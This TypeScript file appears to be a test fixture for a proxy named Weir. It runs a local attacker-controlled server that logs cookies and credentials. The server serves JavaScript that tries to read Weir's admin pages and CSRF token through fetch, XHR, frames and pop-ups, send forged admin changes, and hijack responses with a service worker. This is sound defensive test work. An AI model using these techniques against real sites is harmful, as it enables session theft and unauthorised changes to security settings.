// An API behind Weir whose pages, scripts and headers an attacker controls.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface EvilOrigin extends AsyncDisposable {
  readonly url: string;
  /** The paths that were asked for. */
  readonly seen: string[];
  /** The cookies that came with them. */
  readonly cookies: string[];
  /** The `Authorization` headers that came with them. */
  readonly credentials: string[];
}

export async function startEvilOrigin(): Promise<EvilOrigin> {
  const seen: string[] = [];
  const cookies: string[] = [];
  const credentials: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? '');
    cookies.push(request.headers.cookie ?? '');
    credentials.push(request.headers.authorization ?? '');
    answer(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    cookies,
    credentials,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** `?set=COOKIE` sets a cookie, `?Cross-Origin-Opener-Policy=VALUE` that header, `?realm=NAME` asks for a password. */
function answer(request: IncomingMessage, response: ServerResponse): void {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://origin');
  const script = { '/attack.js': ATTACK, '/service-worker.js': SERVICE_WORKER }[pathname];
  const policy = searchParams.get('Cross-Origin-Opener-Policy');
  if (policy !== null) response.setHeader('Cross-Origin-Opener-Policy', policy);
  response.setHeader('Set-Cookie', searchParams.getAll('set'));
  const realm = searchParams.get('realm');
  if (realm !== null && request.headers.authorization === undefined) {
    response.statusCode = 401;
    response.setHeader('WWW-Authenticate', `Basic realm="${realm}"`);
  }
  response.setHeader('Content-Type', script === undefined ? 'text/html' : 'text/javascript');
  response.end(
    script ?? '<!doctype html><title>A proxied page</title><body><script src="/attack.js"></script>',
  );
}

/** `steal` returns all that the script could read, by the way it took. `change` returns statuses; 0: no answer. */
const ATTACK = `
  const isWeirs = (text) => /data-csrf="[^"]+"|"items"|"rules"/.test(text ?? '');
  const loaded = (element) => new Promise((resolve) => {
    element.onload = resolve;
    element.onerror = resolve;
    setTimeout(resolve, 1_000);
  });

  async function steal(target) {
    const loot = [];
    const keep = (way, text) => isWeirs(text) && loot.push(way + ': ' + text.slice(0, 100));
    const ways = [{}, { referrer: '/_weir/' }, { headers: { Accept: 'text/html' } }];
    for (const path of ['/_weir/', '/_weir/admin/rules', '/_weir/admin/keys'])
      for (const way of ways) {
        const reading = fetch(target + path, { credentials: 'include', ...way }).then((answer) => answer.text());
        keep('fetch ' + path + JSON.stringify(way), await reading.catch(() => ''));
      }
    const xhr = new XMLHttpRequest();
    xhr.open('GET', target + '/_weir/');
    xhr.withCredentials = true;
    xhr.responseType = 'document';
    xhr.send();
    await new Promise((resolve) => (xhr.onloadend = resolve));
    keep('XMLHttpRequest', xhr.responseXML?.documentElement.outerHTML);
    for (const kind of ['iframe', 'object', 'embed']) {
      const frame = document.createElement(kind);
      frame[kind === 'object' ? 'data' : 'src'] = target + '/_weir/';
      document.body.append(frame);
      await loaded(frame);
      try { keep(kind, frame.contentDocument?.documentElement.outerHTML); } catch {}
    }
    return loot;
  }

  async function change(target) {
    const statuses = [];
    const send = (method, path, body) => async (type) => {
      const init = { method, body, headers: { 'Content-Type': type }, credentials: 'include', referrer: '/_weir/' };
      statuses.push(await fetch(target + path, init).then(({ status }) => status, () => 0));
    };
    const changes = [
      send('PATCH', '/_weir/admin/settings', '{"enforcement":"log"}'),
      send('POST', '/_weir/admin/keys', '{"name":"stolen"}'),
    ];
    for (const one of changes) for (const type of ['application/json', 'text/plain']) await one(type);
    return statuses;
  }

  /** 0: the cache of the browser has no such answer. */
  const statusInCache = (path) =>
    fetch(path, { cache: 'only-if-cached', mode: 'same-origin' }).then(({ status }) => status, () => 0);

  let opened;
  function popUp(url) { opened = window.open(url); }
  function readPopUp() {
    try { return opened.document.body.dataset.csrf ?? ''; } catch { return ''; }
  }
  function textOfPopUp() {
    try { return opened.document.body.innerText; } catch { return ''; }
  }

  async function register() {
    await navigator.serviceWorker.register('/service-worker.js', { scope: '/' });
    await navigator.serviceWorker.ready;
  }
  const stolen = () => new Promise((resolve) => {
    navigator.serviceWorker.onmessage = ({ data }) => resolve(data);
    navigator.serviceWorker.ready.then(({ active }) => active.postMessage('?'));
  });`;

/** Hands everything under /_weir on, and keeps the CSRF token that it finds there. */
const SERVICE_WORKER = `
  let stolen = '';
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) =>
    event.waitUntil(self.registration.navigationPreload.enable().then(() => clients.claim())));
  self.addEventListener('message', (event) => event.source.postMessage(stolen));
  self.addEventListener('fetch', (event) => {
    const { pathname, search } = new URL(event.request.url);
    if (!pathname.startsWith('/_weir')) return;
    const answering = search === '?preload' ? event.preloadResponse : fetch(event.request);
    event.respondWith(answering.then(async (answer) => {
      stolen = /data-csrf="([^"]+)"/.exec(await answer.clone().text())?.[1] ?? stolen;
      return answer;
    }));
  });`;
